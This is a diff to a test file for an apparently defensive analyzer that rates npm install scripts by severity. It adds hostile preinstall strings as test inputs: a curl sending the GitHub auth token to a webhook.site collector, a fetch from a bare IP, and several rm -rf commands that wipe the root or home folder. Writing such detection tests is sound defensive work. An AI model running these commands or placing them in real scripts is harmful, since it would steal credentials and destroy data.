@@ -1136,6 +1136,19 @@ ${uses.map((u) => `      - uses: ${u}`).join('\n')}
     expect(severity('node scripts/check-registry.js && dig +short registry.npmjs.org >/dev/null')).toBe('high');
   });
 
+  it('rates an install script that contacts a collector or a bare IP, or wipes the disk or home folder, critical (Toptal picasso, July 2025)', () => {
+    const severity = (preinstall: string) => analyze(snapshotOf(change('package.json', pkg({ scripts: {} }), pkg({ scripts: { preinstall } })))).findings.find((f) => f.id === 'npm-install-script')?.severity;
+    expect(severity('curl -d "$(gh auth token)" https://webhook.site/bb8ca5f6-4175-45d2-b042-fc9ebb8170b7')).toBe('critical');
+    expect(severity('node -e "require(\'https\').get(\'https://45.77.12.9/p\')"')).toBe('critical');
+    expect(severity('rm -rf / --no-preserve-root')).toBe('critical');
+    expect(severity('sudo rm -fr $HOME')).toBe('critical');
+    expect(severity('node setup.js || rm -rf ~/*')).toBe('critical');
+    // Cleaning the project's own folders, or a host of its own, stays high.
+    expect(severity('rm -rf ./dist node_modules/.cache')).toBe('high');
+    expect(severity('rm -rf /tmp/acme-build')).toBe('high');
+    expect(severity('curl -fsSL https://downloads.acme.dev/cli.tgz | tar xz -C ./bin')).toBe('high');
+  });
+
   it('does not report an install script that only drops commands it ran before; does one that adds, changes or reorders a command', () => {
     const script = (before: string, after: string) =>
       ids(snapshotOf(change('package.json', pkg({ scripts: { postinstall: before } }), pkg({ scripts: { postinstall: after } })))).filter((id) => id === 'npm-install-script');
